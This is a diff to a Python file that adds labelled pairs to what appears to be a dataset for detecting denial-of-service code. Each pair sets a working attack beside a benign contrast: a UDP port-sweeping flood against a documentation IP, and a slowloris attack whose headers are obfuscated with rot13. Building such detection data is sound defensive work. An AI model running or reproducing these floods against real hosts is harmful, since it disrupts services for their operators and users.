@@ -181,6 +181,26 @@ PAIRS = [
      "    s.sendto(os.urandom(1400), ('203.0.113.9', 27015))",
      "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(10):\n"
      "    s.sendto(os.urandom(64), ('127.0.0.1', 9999))"),
+    ("flood: every port of one host swept again and again without pause; a port scan that sweeps once",
+     "dos_attack",
+     "import socket, os, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\npayload = os.urandom(1200)\n"
+     "stop = time.time() + 300\nwhile time.time() < stop:\n    for port in range(1, 65535, 3):\n"
+     "        s.sendto(payload, ('198.51.100.20', port))",
+     "import socket\nopen_ports = []\nfor port in range(1, 1025):\n"
+     "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.settimeout(0.2)\n"
+     "    if s.connect_ex(('198.51.100.20', port)) == 0:\n        open_ports.append(port)\n    s.close()\n"
+     "print(open_ports)"),
+    ("flood: slowloris whose header lines are decoded, then formatted; a client that sends whole requests",
+     "dos_attack",
+     "import socket, time, random, codecs\nR = lambda t: codecs.decode(t, 'rot13')\nheld = []\n"
+     "for _ in range(400):\n    c = socket.create_connection(('198.51.100.7', 80))\n"
+     "    c.send(R('TRG /?{} UGGC/1.1\\r\\n').format(random.random()).encode())\n    held.append(c)\n"
+     "while True:\n    for c in held:\n        c.send(R('K-c: {}\\r\\n').format(random.randint(1, 9)).encode())\n"
+     "    time.sleep(10)",
+     "import socket, time, codecs\nR = lambda t: codecs.decode(t, 'rot13')\n"
+     "for _ in range(3):\n    c = socket.create_connection(('example.org', 80))\n"
+     "    c.send(R('TRG /{} UGGC/1.1\\r\\nUbfg: rknzcyr.bet\\r\\n\\r\\n').format('').encode())\n"
+     "    print(c.recv(200))\n    time.sleep(10)"),
     ("flood: connections opened in a loop of unknown length, or a selector client that reads", "dos_attack",
      "import socket, sys\ntarget = (sys.argv[1], 80)\nwhile True:\n    for i in range(int(sys.argv[2])):\n"
      "        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect_ex(target)\n"
